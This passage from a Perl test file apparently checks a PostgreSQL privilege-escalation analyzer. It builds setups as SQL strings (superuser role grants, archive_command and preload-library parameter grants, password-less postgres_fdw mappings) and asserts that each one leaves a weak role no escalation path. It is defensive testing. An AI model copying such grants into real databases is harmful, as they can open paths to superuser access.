	'SECURITY DEFINER without temporary tables' => 'REVOKE TEMPORARY ON DATABASE here FROM PUBLIC;' . definer('BEGIN PERFORM 1 FROM pg_class; END'),
	'SECURITY DEFINER of an equal' => definer($counts) . '; ALTER FUNCTION app.d() OWNER TO weak',
	$major >= 14 ? ('SECURITY DEFINER bound at creation' => 'CREATE FUNCTION app.d() RETURNS bigint LANGUAGE sql SECURITY DEFINER BEGIN ATOMIC SELECT count(*) FROM pg_class; END') : (),
	$major >= 15 ? ('parameters that need a file' => 'GRANT SET ON PARAMETER session_preload_libraries TO weak; GRANT ALTER SYSTEM ON PARAMETER shared_preload_libraries, work_mem TO weak; GRANT SET ON PARAMETER archive_command TO weak') : (),
	$major >= 16 ? (
		'a superuser that owns nothing, inherited only' => "$boss GRANT boss TO weak WITH INHERIT TRUE, SET FALSE",
		'neither inherited nor to be set' => "$boss GRANT boss TO weak WITH INHERIT FALSE, SET FALSE",
		'ADMIN OPTION on a superuser, which only superusers may use' => "$boss GRANT boss TO weak WITH ADMIN TRUE, INHERIT FALSE, SET FALSE",
		'CREATEROLE' => 'ALTER ROLE weak CREATEROLE') : (),
	$available->{postgres_fdw} ? (
		'a foreign server elsewhere' => "$boss $own_schema CREATE EXTENSION postgres_fdw; CREATE SERVER self FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '$nowhere', port '$port');"
		  . q{GRANT USAGE ON FOREIGN SERVER self TO weak; CREATE USER MAPPING FOR weak SERVER self OPTIONS (user 'boss', password_required 'false')},
		'a foreign server that asks for a password' => "$boss $own_schema CREATE EXTENSION postgres_fdw; CREATE SERVER self FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '$socket', port '$port');"
		  . q{GRANT USAGE ON FOREIGN SERVER self TO weak; CREATE USER MAPPING FOR weak SERVER self OPTIONS (user 'boss', password 'x')}) : ());
foreach my $name (sort keys %harmless)
{
	my $case = { setup => $harmless{$name}, walk => [] };
	set_up($case);
	is_deeply([ map { "$_->{kind}: $_->{sentence}" } @{ path_of_weak() } ], [], "no path: $name");
	tear_down($case);
}

$node->stop;
done_testing();
